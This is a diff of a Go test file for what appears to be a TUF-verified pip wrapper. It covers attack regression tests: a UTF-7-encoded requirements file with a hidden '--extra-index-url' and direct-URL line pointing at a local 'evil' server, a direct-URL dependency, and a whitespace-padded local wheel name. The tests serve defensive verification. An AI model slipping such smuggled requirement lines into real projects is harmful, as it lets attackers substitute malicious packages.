@@ -61,11 +61,9 @@ func (e *evilServer) assertUntouched(t *testing.T) {
 // read the bytes as UTF-8, saw one requirement, and pip downloaded evil (exit 0).
 func TestAttackRequirementsEncoding(t *testing.T) {
 	t.Parallel()
-	needCommand(t, "download")
+	needTufpip(t)
 	interpreters(t, func(t *testing.T, py pyfix.Interpreter) {
-		r := newPipRepo(t)
-		r.seed()
-		r.publish()
+		r := newSeededPipRepo(t)
 		evil := newEvilServer(t)
 		hidden := "\n--extra-index-url " + evil.URL + "/simple/\nevil @ " + evil.URL + "/" + evil.wheel + "\n"
 		dir := t.TempDir()
@@ -124,7 +122,7 @@ func utf7(s string) string {
 // reach. Before the fix pip fetched evil (exit 0). The evil server gets no request.
 func TestAttackDirectURLDependency(t *testing.T) {
 	t.Parallel()
-	needCommand(t, "install")
+	needTufpip(t)
 	interpreters(t, func(t *testing.T, py pyfix.Interpreter) {
 		r := newPipRepo(t)
 		r.seed()
@@ -168,11 +166,9 @@ func TestAttackDirectURLDependency(t *testing.T) {
 // the guard as a project name, and pip installed the file (exit 0). The set is Python's own.
 func TestAttackWhitespaceLocalWheel(t *testing.T) {
 	t.Parallel()
-	needCommand(t, "install")
+	needTufpip(t)
 	interpreters(t, func(t *testing.T, py pyfix.Interpreter) {
-		r := newPipRepo(t)
-		r.seed()
-		r.publish()
+		r := newSeededPipRepo(t)
 		out, err := exec.Command(py.Path, "-c",
 			"import sys; print(' '.join(str(c) for c in range(sys.maxunicode+1) if chr(c).isspace()))").Output()
 		if err != nil {
